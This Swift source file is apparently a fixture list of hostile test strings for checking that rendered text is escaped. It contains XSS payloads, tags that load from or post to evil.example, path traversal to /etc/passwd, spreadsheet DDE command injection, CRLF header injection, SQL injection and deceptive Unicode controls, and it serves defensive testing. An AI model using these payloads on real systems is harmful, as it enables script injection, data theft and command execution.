/// Texts that mean harm to whoever shows them without care.
public enum HostileTexts {
  /// Mark-up, attributes, addresses, formulas, controls and the like, each on its own.
  public static let all: [String] =
    markup + attributes + addresses + formulas + controls + templates

  private static let markup = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">here</a>", "<object data=\"//evil.example\"></object>",
    "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>", "<style>*{display:none}</style>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "</main></body></html>",
    "</p></article></section>", "<!-- unclosed", "<![CDATA[ x ]]>", "<plaintext>", "<xmp>",
    "<textarea>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<video src=//evil.example autoplay>", "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>",
  ]

  private static let attributes = [
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "\" style=\"position:fixed;inset:0", "x\" srcdoc=\"<script>",
    "` onclick=alert(1) `", "&quot; onload=&quot;alert(1)", "&#34;&#62;&#60;script&#62;",
  ]

  private static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd",
    "../../../../etc/passwd", "http://evil.example@127.0.0.1/",
  ]

  private static let formulas = [
    "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1",
  ]

  private static let controls = [
    "\u{202E}evil\u{202C}", "\u{2066}x\u{2069}", "\u{200B}zero\u{200B}width", "\u{FEFF}mark",
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]8;;//evil.example\u{7}x\u{1B}]8;;\u{7}", "bell\u{7}",
    "nul\u{0}byte", "line\u{2028}separator",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}",
    "\u{E0041}\u{E0042}tags", String(repeating: "W", count: 5000), "\u{85}next", "\u{9B}31mcsi",
  ]

  private static let templates = [
    "{{page.title}}", "{{{page.title}}}", "{{>layout}}", "{{#page}}x{{/page}}", "${7*7}",
    "<%= 7*7 %>",
    "%00%0d%0aSet-Cookie: x=1", "\r\nSet-Cookie: x=1", "'; DROP TABLE signals; --",
    "\" OR 1=1 --", "*", "\"unclosed", "NEAR(a b", "a AND", "^a:b",
  ]
}
